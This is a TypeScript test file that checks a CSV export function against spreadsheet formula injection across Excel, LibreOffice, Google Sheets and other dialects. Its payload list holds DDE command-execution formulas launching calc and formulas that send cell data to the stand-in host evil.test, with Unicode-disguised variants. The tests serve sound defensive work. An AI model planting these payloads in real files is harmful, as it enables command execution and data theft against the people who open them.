import { expect, it } from 'vitest';
import { csvLine, guarded, type Separator } from './csv.ts';

/**
 * How programs split a file into cells. What follows a closing quote is taken as it is, or may be quoted again; quotes
 * after spaces count or do not; and a program told to heed none splits everywhere.
 */
type Dialect = { separators: string; reopens: boolean; trims: boolean; isBlind?: boolean };
const DIALECTS: Record<string, Dialect> = {
  'Excel, English': { separators: ',', reopens: false, trims: false },
  'Excel, German and French': { separators: ';', reopens: false, trims: false },
  'LibreOffice, all separators': { separators: ',;\t', reopens: true, trims: false },
  'LibreOffice, semicolons': { separators: ';', reopens: true, trims: false },
  'Google Sheets': { separators: ',', reopens: true, trims: true },
  'Numbers, semicolons': { separators: ';', reopens: false, trims: true },
  'Gnumeric, tabs': { separators: '\t', reopens: true, trims: true },
  'OnlyOffice, tabs': { separators: '\t', reopens: false, trims: false },
  'WPS, without quotes': { separators: ';', reopens: false, trims: false, isBlind: true },
};

const cellsOf = (text: string, { separators, reopens, trims, isBlind = false }: Dialect): string[] => {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const c = text[at] ?? '';
    const isBefore = trims ? cell.trim() === '' : cell === '';
    if (isQuoted && c === '"' && text[at + 1] === '"') {
      cell += c;
      at += 1;
    } else if (c === '"' && !isBlind && (isQuoted || isBefore || reopens)) isQuoted = !isQuoted;
    else if (!isQuoted && (separators.includes(c) || c === '\r' || c === '\n')) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  return [...cells, cell];
};

/** Whether a program that ignores spaces, controls and what nobody sees takes it for a formula. */
const isFormula = (cell: string): boolean =>
  /^[\s\p{Cc}\p{Cf}\p{M}\p{Default_Ignorable_Code_Point}\u2800]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u.test(cell);

const PAYLOADS = [
  ...['fine, =1+1', 'a,=1', ',,=1', ', \t=1', '",=1', '"",=1'],
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '　=1+1'],
  ...["=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '-2+3+cmd|" /C calc"!A0', "+cmd|'/c x'!'A1'"],
  ...['=HYPERLINK("http://evil.test?x="&A1,"click")', '=IMPORTXML(CONCAT("//evil.test",A2),"//a")'],
  ...['=WEBSERVICE("http://evil.test/"&A1)', '=DDE("cmd";"/C calc";"x")', '=IMAGE("http://evil.test")'],
  ...[
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '﹦1',
    '−1+1',
    '\u200B=1',
    '\uFEFF=1',
    '\u202E=1',
    '\u3164=1',
    '\u2800=1',
  ],
  ...['\u0301=1', '\u00AD=1', '\u2063=1', '\uFE0F=1', '\v=1', '\f=1', '\u0085=1', '\u2028=1'],
  ...[
    'good;=1+1',
    'good; =1+1;',
    'good\t=1+1',
    'good\r\n=1+1',
    'good\n- bad',
    'x;"=1+1',
    'x;"" =1+1',
    '";=1',
  ],
  ...['","=1+1', '";"=1+1";"', '"\r\n=1+1', 'a"b;=1', "';=1", ';;=1', '; \t=1', '"";"";=1', '\n"=1'],
];
const ALL: readonly Separator[] = ['comma', 'semicolon', 'tab'];
const CHARACTERS = [...'=+-@;,"\' \t\r\na1', '\u200B', '＝', '\u00A0', '";', '","', '"\r\n', '=1'];

it.each(Object.entries(DIALECTS))('has no formula in any cell that %s reads', (_, dialect) => {
  const isSafe = (...texts: string[]): void => {
    for (const separator of ALL) {
      const line = (values: (string | number | null)[]) => csvLine(values, separator);
      const file = line([1, ...texts, 2]) + line([...texts.toReversed(), null]) + line(texts);
      expect(cellsOf(file, dialect).filter(isFormula), JSON.stringify(texts)).toEqual([]);
    }
  };
  for (const payload of PAYLOADS) {
    isSafe(payload);
    for (const other of ['a', 'a;', 'a\n', '"', ';"', PAYLOADS[0] ?? '']) isSafe(other, payload, other);
  }
  let seed = 7;
  const below = (limit: number): number => {
    seed = (seed * 48_271) % 2_147_483_647;
    return seed % limit;
  };
  const text = () => Array.from({ length: below(9) }, () => CHARACTERS[below(CHARACTERS.length)]).join('');
  for (let n = 0; n < 4000; n += 1) isSafe(text(), text(), text());
});

it('keeps every text, and guards only what could be a formula', () => {
  const texts = [
    'plain',
    'a, b; c',
    'say "no"',
    'two\r\nlines',
    'a - b = c',
    "it's",
    'ünï 👍🏽',
    '5.0',
    'x@y.test',
  ];
  for (const text of texts) expect(guarded(text)).toBe(text);
  const whole = { separators: ',', reopens: false, trims: false };
  const all = [...texts, ...PAYLOADS];
  const line = csvLine(all);
  expect(line.endsWith('\r\n')).toBe(true);
  expect(cellsOf(line.slice(0, -2), whole)).toEqual(all.map((text) => guarded(text)));
  for (const payload of PAYLOADS)
    expect(guarded(payload).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  expect(guarded('=1')).toBe("'=1");
  expect(guarded('\tx')).toBe("'\tx");
  expect(guarded('fine ;-)')).toBe("fine ;'-)");
  expect(guarded('Bad:\n- slow')).toBe("Bad:\n'- slow");
});

it('quotes every text and no number, with any separator', () => {
  expect(csvLine(['a', 5, '', null, 'b"c', 0])).toBe('"a",5,,,"b""c",0\r\n');
  expect(csvLine(['a', 4.5, null, 'b;c'], 'semicolon')).toBe('"a";4,5;;"b;c"\r\n');
  expect(csvLine(['a', 4.5], 'tab')).toBe('"a"\t4.5\r\n');
});

it('takes time in proportion to a long text', () => {
  for (const part of [' ', '"', ';', '\n', '\u200B', '; ', '\u0301']) {
    const began = process.cpuUsage();
    guarded(part.repeat(100_000));
    expect(process.cpuUsage(began).user, JSON.stringify(part)).toBeLessThan(1_000_000);
  }
});
